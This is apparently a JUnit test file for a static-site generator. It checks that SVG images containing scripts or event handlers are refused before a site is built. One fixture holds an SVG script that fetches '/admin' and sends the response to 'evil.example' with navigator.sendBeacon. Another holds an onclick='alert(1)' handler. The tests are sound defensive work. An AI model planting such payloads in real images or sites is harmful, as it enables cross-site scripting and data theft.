package dev.folio.input;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.folio.build.BuildFailure;
import dev.folio.build.BuildOptions;
import dev.folio.build.Builder;
import dev.folio.build.Phase;
import dev.folio.build.TestSites;
import dev.folio.cli.Main;
import dev.folio.problem.Problem;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The SVG pictures a site publishes, its own and its themes', are checked before anything is built. */
final class SvgPicturesTest {

    private static final String HOSTILE = """
            <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
              <circle r="4"/>
                <script>fetch('/admin').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
            </svg>
            """;

    @TempDir
    Path dir;

    private Path site(Map<String, String> files) {
        return TestSites.write(dir.resolve("site"), files);
    }

    @Test
    void profilePictureWithScriptIsRefusedAndNothingIsPublished() {
        Path site = site(Map.of(
                "content/profile.yml", "basics:\n  name: Sam\n  image: images/avatar.svg\n",
                "content/images/avatar.svg", HOSTILE));
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        int code = Main.run(new PrintWriter(out, true), new PrintWriter(err, true), "validate", "--source",
                site.toString());
        assertEquals("error: content/images/avatar.svg:3:5: <script> would run on your site when the picture is "
                + "opened; remove it, or export the picture again as a plain SVG\n"
                + "1 problem found; fix it and run folio validate again.\n", err.toString().replace("\r\n", "\n"));
        assertEquals(2, code);
        BuildFailure failure = assertThrows(BuildFailure.class,
                () -> Builder.build(new BuildOptions(site, dir.resolve("out"), Optional.empty())));
        assertEquals(Phase.LOAD, failure.phase());
        assertFalse(Files.exists(dir.resolve("out")));
    }

    @Test
    void themeAssetWithEventHandlerIsRefused() {
        Path site = site(Map.of(
                "content/profile.yml", TestSites.MINIMAL_PROFILE,
                "content/site.yml", "theme: mine\n",
                "themes/mine/theme.yml", "name: mine\n",
                "themes/mine/assets/icons/mark.svg",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"1\" onclick=\"alert(1)\"/></svg>\n"));
        BuildFailure failure = assertThrows(BuildFailure.class, () -> Builder.load(site, Optional.empty()));
        assertTrue(failure.invalidInput());
        assertEquals(List.of("themes/mine/assets/icons/mark.svg:1:55: onclick=\"alert(1)\" would run on your site "
                + "when the picture is opened; remove the attribute, or export the picture again as a plain SVG"),
                failure.problems().stream().map(Problem::format).toList());
    }

    @Test
    void plainPicturesAreBuiltAsTheyAre() {
        String plain = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"><rect width=\"1\" height=\"1\"/></svg>\n";
        Path site = site(Map.of(
                "content/profile.yml", "basics:\n  name: Sam\n  image: images/avatar.svg\n",
                "content/images/avatar.svg", plain,
                "themes/default/theme.yml", "name: default\n",
                "themes/default/assets/mark.svg", plain));
        Builder.build(new BuildOptions(site, dir.resolve("out"), Optional.empty()));
        assertEquals(plain, TestSites.read(dir.resolve("out/media/images/avatar.svg")));
    }
}
